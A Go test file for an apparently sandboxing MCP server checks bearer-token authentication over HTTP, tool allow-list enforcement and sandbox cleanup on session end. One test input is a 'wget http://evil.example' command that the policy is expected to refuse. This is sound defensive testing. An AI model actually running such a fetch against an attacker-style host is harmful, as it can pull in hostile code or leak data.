package mcp

import (
	"context"
	"net/http"
	"strings"
	"testing"
	"time"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/airlock-sandbox/airlock/policy"
)

const testToken = "0123456789abcdef-test-token"

// headerTransport adds a bearer token to every request.
type headerTransport struct{ token string }

func (h headerTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	if h.token != "" {
		r.Header.Set("Authorization", "Bearer "+h.token)
	}
	return http.DefaultTransport.RoundTrip(r)
}

// TestHTTP serves the tools over streamable HTTP behind the bearer check
// (httpauth): a client with the token works, one without is refused
// before MCP.
func TestHTTP(t *testing.T) {
	p := mustPolicy(t, policy.Spec{AllowedTools: []string{"sh"}})
	fk := &fakes{}
	_, ts := serveHTTP(t, Config{Policy: p}, fk.new, testToken)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()

	connect := func(token string) (*sdk.ClientSession, error) {
		tr := &sdk.StreamableClientTransport{Endpoint: ts.URL, HTTPClient: &http.Client{Transport: headerTransport{token}}, MaxRetries: -1, DisableStandaloneSSE: true}
		return sdk.NewClient(&sdk.Implementation{Name: "airlock-test", Version: "1"}, nil).Connect(ctx, tr, nil)
	}
	if cs, err := connect("wrong-token-0123456789"); err == nil {
		cs.Close()
		t.Fatal("client with a wrong token connected")
	}
	cs, err := connect(testToken)
	if err != nil {
		t.Fatalf("client with the token: %v", err)
	}
	res, err := cs.CallTool(ctx, &sdk.CallToolParams{Name: ToolRun, Arguments: map[string]any{"command": []string{"wget", "http://evil.example"}}})
	if err != nil || !res.IsError || !strings.Contains(text(res), "wget is not in allowed_tools") {
		t.Fatalf("run over HTTP = %v, %v", res, err)
	}
	res, err = cs.CallTool(ctx, &sdk.CallToolParams{Name: ToolRun, Arguments: map[string]any{"command": []string{"sh", "-c", "true"}}})
	if err != nil || res.IsError {
		t.Fatalf("run over HTTP = %v, %v", res, err)
	}
	made := fk.all()
	if len(made) != 1 {
		t.Fatalf("one HTTP client made %d sandboxes, want 1", len(made))
	}
	// Ending the MCP session (DELETE) closes its sandbox.
	cs.Close()
	select {
	case <-made[0].done:
	case <-time.After(30 * time.Second):
		t.Fatal("the sandbox was not closed after the HTTP client ended its session")
	}
}
